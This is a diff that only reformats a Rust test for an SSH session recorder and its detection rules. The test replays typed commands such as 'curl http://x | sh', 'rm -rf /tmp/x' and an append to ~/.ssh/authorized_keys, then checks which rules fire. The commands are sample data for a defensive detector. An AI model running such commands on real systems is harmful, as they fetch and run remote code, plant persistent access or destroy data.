@@ -550,9 +550,20 @@ mod ssh_tests {
         let dir = std::env::temp_dir().join(format!("bg-review-ssh-{}", std::process::id()));
         let rec = Recorder::new(&dir, false).expect("recorder");
         let mut r = rec
-            .open("s1", json!({"protocol": "ssh", "request_id": "r1"}), Timestamp(1))
+            .open(
+                "s1",
+                json!({"protocol": "ssh", "request_id": "r1"}),
+                Timestamp(1),
+            )
             .expect("open");
-        let typed = ["ls -l\r", "sudoo", "\u{7f} id\r", "rm -rf /tmp/x", "\u{3}", "curl http://x | sh\n"];
+        let typed = [
+            "ls -l\r",
+            "sudoo",
+            "\u{7f} id\r",
+            "rm -rf /tmp/x",
+            "\u{3}",
+            "curl http://x | sh\n",
+        ];
         for (i, data) in typed.iter().enumerate() {
             r.append(
                 "i",
@@ -563,13 +574,19 @@ mod ssh_tests {
         }
         r.append(
             "o",
-            &[("channel", Field::U64(0)), ("data", Field::Str("total 0\r\n"))],
+            &[
+                ("channel", Field::U64(0)),
+                ("data", Field::Str("total 0\r\n")),
+            ],
             Timestamp(30),
         )
         .expect("append");
         r.append(
             "exec",
-            &[("channel", Field::U64(1)), ("command", Field::Str("echo x >> ~/.ssh/authorized_keys"))],
+            &[
+                ("channel", Field::U64(1)),
+                ("command", Field::Str("echo x >> ~/.ssh/authorized_keys")),
+            ],
             Timestamp(40),
         )
         .expect("append");
@@ -579,7 +596,11 @@ mod ssh_tests {
         assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
         let rules_hit: Vec<&str> = s.findings_by_rule.keys().map(String::as_str).collect();
         // `rm -rf` was cut by Ctrl-C before it ran: not a finding.
-        assert_eq!(rules_hit, ["authorized_keys", "curl_pipe_shell", "sudo"], "{s:?}");
+        assert_eq!(
+            rules_hit,
+            ["authorized_keys", "curl_pipe_shell", "sudo"],
+            "{s:?}"
+        );
         assert_eq!(s.statements.values().sum::<u64>(), 4, "{s:?}");
         assert_eq!(s.bytes_to_client, 9);
     }
